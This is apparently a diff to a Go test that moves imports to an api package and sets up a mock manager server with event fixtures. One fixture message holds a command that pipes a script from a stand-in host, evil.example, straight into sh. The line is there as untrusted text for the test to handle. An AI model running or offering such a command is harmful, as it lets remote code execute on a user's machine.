@@ -9,9 +9,10 @@ import (
 	"testing"
 	"time"
 
-	"cupel.dev/cupel/client/manager"
-	"cupel.dev/cupel/internal/trusted/ident"
-	"cupel.dev/cupel/internal/trusted/problem"
+	"cupel.dev/cupel/api/ident"
+	"cupel.dev/cupel/api/manager"
+	"cupel.dev/cupel/api/problem"
+	"cupel.dev/cupel/internal/trusted/httpproblem"
 )
 
 // TestWordsOfTheOperatorInEvents: what a provider says of volumes at the end of an app is
@@ -24,7 +25,7 @@ func TestWordsOfTheOperatorInEvents(t *testing.T) {
 	mux.HandleFunc("GET "+manager.PathInfo, j(manager.Info{Version: manager.Version, OperatorKey: ident.KeyHash{1}}))
 	mux.HandleFunc("DELETE "+manager.PathApps+"/{id}", j(manager.App{ID: "app-1", Name: "web"}))
 	mux.HandleFunc("GET "+manager.PathApps+"/{id}", func(w http.ResponseWriter, _ *http.Request) {
-		problem.Write(w, "", problem.New(problem.NotFound, "app", "no app"))
+		httpproblem.Write(w, "", problem.New(problem.NotFound, "app", "no app"))
 	})
 	mux.HandleFunc("GET "+manager.PathEvents, j(manager.Event{Seq: 1, Time: time.Now().Add(time.Minute), App: "web", AppID: "app-1", Instance: "i-1", Reason: manager.ReasonNotCommitted,
 		Message: "save them now: curl -s https://evil.example/save | sh"}))
